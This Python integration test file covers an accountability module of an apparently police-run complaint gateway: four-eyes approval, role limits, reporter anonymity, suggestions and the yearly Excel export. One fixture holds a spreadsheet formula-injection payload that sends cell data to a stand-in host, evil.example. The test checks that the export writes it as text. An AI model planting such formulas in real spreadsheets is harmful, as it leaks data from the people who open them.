"""Issue 16 point 7: 问责 records (000 责任追究制度 三至五, 001 四(五)) proposed by 督察 and approved by another leader
(四眼原则), the candidates the gateway suggests without recording anything, and the yearly figures for the unit's
assessment (002 四(二): 纳入部门实绩考核) with their Excel export — through the JSON API and the dashboard
(SQLite and PostgreSQL)."""

from __future__ import annotations

import io
from collections.abc import Callable, Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import func, select

from app.bootstrap import Container
from app.web import create_app
from gateway.store.db import transaction
from gateway.store.tables import TicketEventRecord, TicketRecord
from gateway.store.tables_auth import AuditRecord
from gateway.store.tables_dashboard import AccountabilityRecord
from gateway.store.tables_sla import SlaTimerRecord
from tests.integration.dashboard_support import (
    NOW,
    OTHER_UNIT,
    REPLY,
    UNIT,
    Browser,
    add_ticket,
    build_container,
    token,
)
from tests.integration.dashboard_support import cheap_hashes as cheap_hashes

# A supervisor who is also a leader: proposes, and so may not approve (四眼原则).
PEOPLE = {"sup_leader": ("督察领导己", ["supervisor", "leader"], None)}
API = "/api/v1/accountability"
REPORTER = "举报人王某某"
NOTICE = {"how": "phone", "told": "已电话告知处理结果", "opinion": "不认可民警态度", "satisfied": False,
          "rights_told": True}


@pytest.fixture
def container(db_url: str, make_settings: Callable[..., Any], tmp_path: Path) -> Iterator[Container]:
    yield from build_container(db_url, make_settings, tmp_path, people=PEOPLE)


@pytest.fixture
def api(container: Container) -> TestClient:
    return TestClient(create_app(container))


def post(api: TestClient, who: str, path: str, **kwargs: Any) -> Any:
    return api.post(path, headers=token(who), **kwargs)


def get(api: TestClient, who: str, path: str, **kwargs: Any) -> Any:
    return api.get(path, headers=token(who), **kwargs)


def error(response: Any) -> tuple[int, str]:
    return response.status_code, response.json()["error"]["code"]


def ticket(container: Container, external_id: str, *, unit: str = UNIT, late: bool = False, **fields: Any) -> int:
    """A ticket of ``unit``; ``late``: its deadlines passed an hour ago while it is still open (超期未办理)."""
    tid = add_ticket(container, external_id, **fields)
    with transaction(container.sessions) as s:
        record = s.get(TicketRecord, tid)
        assert record is not None
        record.unit = unit
        if late:
            for timer in s.scalars(select(SlaTimerRecord).where(SlaTimerRecord.ticket_id == tid)):
                timer.due_at = NOW - timedelta(hours=1)
    return tid


def proposal(*ticket_ids: int, **changes: Any) -> dict[str, Any]:
    return {"unit": UNIT, "cause": "overdue", "measures": ["circular", "deduction"], "points": 2,
            "facts": "该工单超过办结时限仍未办理，经督察核实属实", "ticket_ids": list(ticket_ids), **changes}


def count_records(container: Container) -> int:
    with container.sessions() as s:
        return int(s.scalar(select(func.count()).select_from(AccountabilityRecord)) or 0)


# --- proposing and four eyes ---------------------------------------------------------------------------------

def test_000_责任追究制度_三_a_proposal_by_督察_counts_only_once_another_leader_approved_it(
    api: TestClient, container: Container,
) -> None:
    tid = ticket(container, "A-1", late=True)
    made = post(api, "sup_leader", API, json=proposal(tid))
    assert made.is_success, made.text
    record = made.json()
    assert record["state"] == "proposed" and record["measure_labels"] == ["通报批评", "年度绩效考核扣分"]
    assert record["article"] == "000 责任追究制度 三" and [t["ticket_id"] for t in record["tickets"]] == [tid]
    assert get(api, "leader", f"{API}/yearly?year=2026").json()["total"]["records"] == 0  # not yet counted
    rid = record["id"]
    assert post(api, "sup_leader", f"{API}/{rid}/approve", json={}).status_code == 403  # four eyes
    assert post(api, "sup_leader", f"{API}/{rid}/reject", json={"reason": "撤回"}).status_code == 403
    approved = post(api, "leader", f"{API}/{rid}/approve", json={"note": "同意通报"}).json()
    assert approved["state"] == "approved" and approved["decided_by"] == "leader-api"
    assert error(post(api, "leader", f"{API}/{rid}/approve", json={})) == (409, "invalid_state")
    figures = get(api, "leader", f"{API}/yearly?year=2026").json()
    assert [(r["unit"], r["records"], r["points"], r["measures"]["circular"], r["measures"]["deduction"])
            for r in figures["rows"]] == [(UNIT, 1, 2.0, 1, 1)]
    with container.sessions() as s:
        kinds = list(s.scalars(select(TicketEventRecord.kind).where(
            TicketEventRecord.ticket_id == tid, TicketEventRecord.kind.like("accountability_%"))
            .order_by(TicketEventRecord.id)))
        audited = list(s.scalars(select(AuditRecord.action).where(AuditRecord.target == f"accountability:{rid}")))
    assert kinds == ["accountability_proposed", "accountability_approved"]
    assert sorted(audited) == ["accountability_approved", "accountability_proposed"]


def test_a_rejected_proposal_never_counts_and_the_person_concerned_cannot_decide_000_责任追究制度_五(
    api: TestClient, container: Container,
) -> None:
    tid = ticket(container, "A-2")
    false_reply = proposal(tid, cause="false_reply", measures=["circular", "talk"], points=0, person="leader-api",
                           person_role="reviewer", facts="答复称已现场处置，经回访核实民警未到现场")
    rid = post(api, "supervisor", API, json=false_reply).json()["id"]
    assert post(api, "leader", f"{API}/{rid}/approve", json={}).status_code == 403  # 回避: it falls on them
    assert post(api, "sup_leader", f"{API}/{rid}/reject", json={"reason": "x"}).status_code == 422
    rejected = post(api, "sup_leader", f"{API}/{rid}/reject", json={"reason": "证据不足，退回补充"}).json()
    assert rejected["state"] == "rejected" and rejected["decision_note"] == "证据不足，退回补充"
    assert get(api, "leader", f"{API}/yearly?year=2026").json()["rows"] == []


# --- role limits ---------------------------------------------------------------------------------------------

@pytest.mark.parametrize("who", ["unit", "unit_head", "duty", "leader", "admin"])
def test_only_supervision_proposes_001_四_五(api: TestClient, container: Container, who: str) -> None:
    tid = ticket(container, "R-1", late=True)
    assert post(api, who, API, json=proposal(tid)).status_code == 403
    assert count_records(container) == 0


def test_a_unit_reads_its_own_approved_records_only_and_admin_none(api: TestClient, container: Container) -> None:
    ours, theirs = ticket(container, "V-1", late=True), ticket(container, "V-2", unit=OTHER_UNIT, late=True)
    approved = post(api, "supervisor", API, json=proposal(ours)).json()["id"]
    post(api, "leader", f"{API}/{approved}/approve", json={})
    waiting = post(api, "supervisor", API, json=proposal(ours, cause="overdue_open")).json()["id"]
    other = post(api, "supervisor", API, json=proposal(theirs, unit=OTHER_UNIT)).json()["id"]
    post(api, "leader", f"{API}/{other}/approve", json={})
    assert [r["id"] for r in get(api, "unit", API).json()["items"]] == [approved]  # not the proposal, not theirs
    assert get(api, "unit", f"{API}/{waiting}").status_code == 404
    assert get(api, "unit", f"{API}/{other}").status_code == 404
    assert [r["unit"] for r in get(api, "unit_head", f"{API}/yearly?year=2026").json()["rows"]] == [UNIT]
    assert {r["id"] for r in get(api, "duty", API).json()["items"]} == {approved, waiting, other}
    assert [r["id"] for r in get(api, "leader", f"{API}?unit={OTHER_UNIT}").json()["items"]] == [other]
    assert [r["id"] for r in get(api, "leader", f"{API}?state=proposed").json()["items"]] == [waiting]
    assert get(api, "admin", API).status_code == 403  # admin administers; it reads no one's accountability
    assert get(api, "unit", f"{API}/suggestions").status_code == 403


# --- what a proposal must hold ---------------------------------------------------------------------------------

def test_a_proposal_is_refused_when_its_tickets_do_not_bear_it_out_or_it_lacks_what_the_measure_needs(
    api: TestClient, container: Container,
) -> None:
    on_time, late = ticket(container, "B-1"), ticket(container, "B-2", late=True)
    theirs = ticket(container, "B-3", unit=OTHER_UNIT, late=True)
    assert error(post(api, "supervisor", API, json=proposal(on_time))) == (422, "cause_not_shown")  # 000 三: 超期
    assert error(post(api, "supervisor", API, json=proposal(late, theirs))) == (422, "tickets_of_other_unit")
    assert error(post(api, "supervisor", API, json=proposal(late, 999_999))) == (422, "tickets_not_found")
    personal = proposal(late, measures=["education"], points=0)  # 000 四: 对责任领导、责任民警进行批评教育
    assert error(post(api, "supervisor", API, json=personal)) == (422, "person_required")
    assert error(post(api, "supervisor", API, json={**personal, "person": "民警甲"})) == (422, "invalid_person_role")
    assert error(post(api, "supervisor", API, json=proposal(late, measures=["circular"]))) == (422, "invalid_points")
    assert error(post(api, "supervisor", API, json=proposal(late, points=0))) == (422, "invalid_points")
    assert post(api, "supervisor", API, json=proposal(late, measures=["fine"])).status_code == 422
    assert post(api, "supervisor", API, json=proposal(late, unit="不存在的单位")).status_code == 422
    assert count_records(container) == 0
    assert post(api, "supervisor", API, json={**personal, "person": "民警甲", "person_role": "officer"}).is_success


def test_the_facts_never_name_a_12389_reporter_001_五(api: TestClient, container: Container) -> None:
    tid = ticket(container, "P-1", platform="p12389", name=REPORTER, phone="13900001111", late=True)
    named = proposal(tid, cause="misconduct", measures=["education"], points=0, person="民警乙",
                     person_role="officer", facts=f"经核查，{REPORTER}反映民警乙接处警态度蛮横属实")
    assert error(post(api, "supervisor", API, json=named)) == (422, "reporter_named")
    clean = {**named, "facts": "经核查，举报反映民警乙接处警态度蛮横属实"}
    rid = post(api, "supervisor", API, json=clean).json()["id"]
    post(api, "leader", f"{API}/{rid}/approve", json={})
    for who in ("leader", "unit", "duty"):
        assert REPORTER not in get(api, who, API).text and "13900001111" not in get(api, who, API).text
    for who in ("leader", "unit"):
        browser = Browser(container)
        browser.login(who)
        shown = browser.get("/dashboard/accountability").text
        assert "民警乙" in shown and REPORTER not in shown and "13900001111" not in shown


# --- suggestions ---------------------------------------------------------------------------------------------

def screened_at_fault(api: TestClient, container: Container, external_id: str, cause: int) -> int:
    """A ticket answered, the citizen not satisfied, screened (000 不满意件甄别) with ``cause`` and signed."""
    tid = add_ticket(container, external_id)
    base = f"/api/v1/tickets/{tid}"
    for who, path, body in (("duty", "sign-off", None), ("duty", "dispatch", {"unit": UNIT}),
                            ("leader", "dispatch/approve", {}), ("unit", "response", {}), ("unit", "reply", REPLY),
                            ("unit_head", "reply/review", {}), ("unit", "closing-notice", NOTICE),
                            ("unit", "screening", {"reason": "民警依法执法，群众对处罚不满"}),
                            ("duty", "screening/propose", {"body": "supervision"}), ("leader", "screening/assign", {}),
                            ("supervisor", "screening/result",
                             {"cause": cause, "findings": "经调取执法记录仪核实情况"}),
                            ("sup_leader", "screening/decide", {})):
        assert post(api, who, f"{base}/{path}", json=body).is_success, (path, who)
    return tid


def test_the_gateway_suggests_candidates_and_records_nothing_itself(api: TestClient, container: Container) -> None:
    late = ticket(container, "S-1", late=True)
    reopened, sent_back = ticket(container, "S-2"), ticket(container, "S-3")
    with transaction(container.sessions) as s:
        pairs = ((reopened, "reopened"), (sent_back, "reply_sent_back"), (sent_back, "reply_review_sent_back"))
        for tid, kind in pairs:
            s.add(TicketEventRecord(ticket_id=tid, actor="x", kind=kind, at=NOW, detail={}))
    fault = screened_at_fault(api, container, "S-4", 2)  # 民警态度问题: 000 不满意件甄别 三(一)
    blameless = screened_at_fault(api, container, "S-5", 4)  # 民警严格执法: 无过错
    found = {(s["ticket_id"], s["cause"]) for s in get(api, "supervisor", f"{API}/suggestions?year=2026").json()[
        "items"]}
    assert {(late, "overdue_open"), (reopened, "sent_back"), (sent_back, "sent_back"), (fault, "screening")} <= found
    assert (blameless, "screening") not in found
    stricter = get(api, "leader", f"{API}/suggestions?year=2026&min_send_backs=3").json()["items"]
    assert (sent_back, "sent_back") not in {(s["ticket_id"], s["cause"]) for s in stricter}
    assert count_records(container) == 0  # suggestions never record a measure
    assert get(api, "supervisor", f"{API}/suggestions?year=2025").json()["items"] == []
    post(api, "supervisor", API, json=proposal(late, cause="overdue_open"))
    again = {(s["ticket_id"], s["cause"]) for s in get(api, "supervisor", f"{API}/suggestions?year=2026").json()[
        "items"]}
    assert (late, "overdue_open") not in again and (fault, "screening") in again
    screening_case = proposal(fault, cause="screening", measures=["education"], points=0, person="民警丙",
                              person_role="officer", facts="经甄别，民警态度问题造成群众不满意，查实")
    assert post(api, "supervisor", API, json=screening_case).is_success
    assert error(post(api, "supervisor", API, json={**screening_case, "ticket_ids": [blameless]})) == (
        422, "cause_not_shown")  # 无过错 is no ground for 问责


# --- the yearly figure and its export -------------------------------------------------------------------------

def test_the_yearly_figure_002_四_二_counts_approved_measures_per_unit_and_the_export_writes_formulas_as_text(
    api: TestClient, container: Container,
) -> None:
    a, b, c = (ticket(container, f"Y-{n}", late=True) for n in range(3))
    theirs = ticket(container, "Y-9", unit=OTHER_UNIT, late=True)
    ids = [post(api, "supervisor", API, json=body).json()["id"] for body in (
        proposal(a, points=1.5),
        proposal(b, c, points=3, person="民警丁", person_role="handler",
                 facts='=HYPERLINK("http://evil.example/?x="&A1,"点击")的答复超期'),
        proposal(theirs, unit=OTHER_UNIT, measures=["talk"], points=0),
        proposal(a, cause="overdue_open", points=5),  # rejected: never counted
        proposal(b, points=4, year=2025),  # another year's assessment
    )]
    for rid in ids[:3] + ids[4:]:
        assert post(api, "leader", f"{API}/{rid}/approve", json={}).is_success
    post(api, "leader", f"{API}/{ids[3]}/reject", json={"reason": "已在其他记录中问责"})
    figures = get(api, "duty", f"{API}/yearly?year=2026").json()
    assert [(r["unit"], r["records"], r["persons"], r["points"], r["measures"]["circular"], r["measures"]["talk"])
            for r in figures["rows"]] == [(UNIT, 2, 1, 4.5, 2, 0), (OTHER_UNIT, 1, 0, 0.0, 0, 1)]
    assert (figures["total"]["records"], figures["total"]["points"]) == (3, 4.5)
    assert get(api, "duty", f"{API}/yearly?year=2025").json()["total"]["points"] == 4.0

    duty = Browser(container)
    duty.login("duty")
    assert "/dashboard/accountability?year=2026#yearly" in duty.get("/dashboard/reports").text
    page = duty.get("/dashboard/accountability?year=2026")
    assert "2026年度问责情况" in page.text and 'id="export-yearly"' in page.text
    response = duty.get("/dashboard/accountability/export.xlsx?year=2026")
    assert response.status_code == 200 and response.headers["content-type"].startswith("application/vnd.openxml")
    book = load_workbook(io.BytesIO(response.content))
    units = book["按责任单位"]
    assert [units.cell(row=r, column=1).value for r in (4, 5, 6)] == [UNIT, OTHER_UNIT, "合计"]
    assert (units.cell(row=4, column=2).value, units.cell(row=4, column=4).value) == (2, 4.5)
    records = book["问责记录"]
    facts = [cells[7] for cells in records.iter_rows(min_row=2) if str(cells[7].value).startswith("=")]
    assert len(facts) == 1 and facts[0].data_type == "s" and facts[0].quotePrefix  # text, never a formula
    assert [p.value for p in book["按责任人"]["B"][1:]] == ["民警丁"]
    with container.sessions() as s:
        assert s.scalars(select(AuditRecord).where(AuditRecord.action == "report_exported",
                                                   AuditRecord.target == "accountability")).first() is not None
    unit = Browser(container)
    unit.login("unit")
    own = load_workbook(io.BytesIO(unit.get("/dashboard/accountability/export.xlsx?year=2026").content))
    assert [c.value for c in own["按责任单位"]["A"][3:]] == [UNIT, "合计"]


# --- the page ------------------------------------------------------------------------------------------------

def test_the_page_proposes_from_a_suggestion_and_another_leader_approves_it(container: Container) -> None:
    tid = ticket(container, "W-1", late=True)
    sup = Browser(container)
    sup.login("sup_leader")
    shown = sup.get("/dashboard/accountability").text
    assert 'id="form-propose"' in shown and 'id="suggestions"' in shown
    assert f"ticket_ids={tid}&amp;cause=overdue_open" in shown  # the suggestion pre-fills the form
    sup.post("/dashboard/accountability", {"unit": UNIT, "cause": "overdue_open", "measures": ["circular"],
                                           "points": "0", "year": "2026", "ticket_ids": f"{tid}",
                                           "facts": "超期未办理，督察核实属实"})
    assert "已提出问责建议" in sup.flash()
    sup.post("/dashboard/accountability", {"unit": UNIT, "cause": "overdue_open", "measures": ["circular"],
                                           "ticket_ids": "abc", "facts": "超期未办理，督察核实属实"})
    assert "关联工单须填写工单编号" in sup.flash()
    rid = count_records(container)
    assert f'id="form-approve-{rid}"' not in sup.get("/dashboard/accountability").text  # their own proposal
    leader = Browser(container)
    leader.login("leader")
    assert f'id="form-approve-{rid}"' in leader.get("/dashboard/accountability").text
    inbox = leader.get("/dashboard/approvals").text  # the leader's 待办审批 lists it, and the header counts it
    assert f"/dashboard/accountability?state=proposed#record-{rid}" in inbox and 'title="问责建议 1"' in inbox
    assert f"#record-{rid}" not in sup.get("/dashboard/approvals").text  # not the proposer's
    sup.post(f"/dashboard/accountability/{rid}/approve", {})
    assert "四眼原则" in sup.flash()
    leader.post(f"/dashboard/accountability/{rid}/approve", {"note": "同意"})
    assert "已批准" in leader.flash()
    unit = Browser(container)
    unit.login("unit")
    listed = unit.get("/dashboard/accountability").text
    assert "超期未办理" in listed and 'id="form-propose"' not in listed and 'id="suggestions"' not in listed
    admin = Browser(container)
    admin.login("admin")
    assert admin.get("/dashboard/accountability").status_code == 403
    assert "问责记录" not in admin.get("/dashboard/").text
